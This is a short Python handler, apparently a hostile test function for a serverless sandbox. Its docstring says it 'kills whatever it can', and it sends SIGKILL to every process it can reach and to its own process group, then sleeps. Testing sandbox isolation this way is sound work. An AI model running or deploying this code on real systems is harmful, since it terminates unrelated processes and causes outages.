"""Kills whatever it can."""
import os
import time


def main(event, context):
    for target in (-1, 0):
        try:
            os.kill(target, 9)
        except OSError:
            continue
    time.sleep(60)
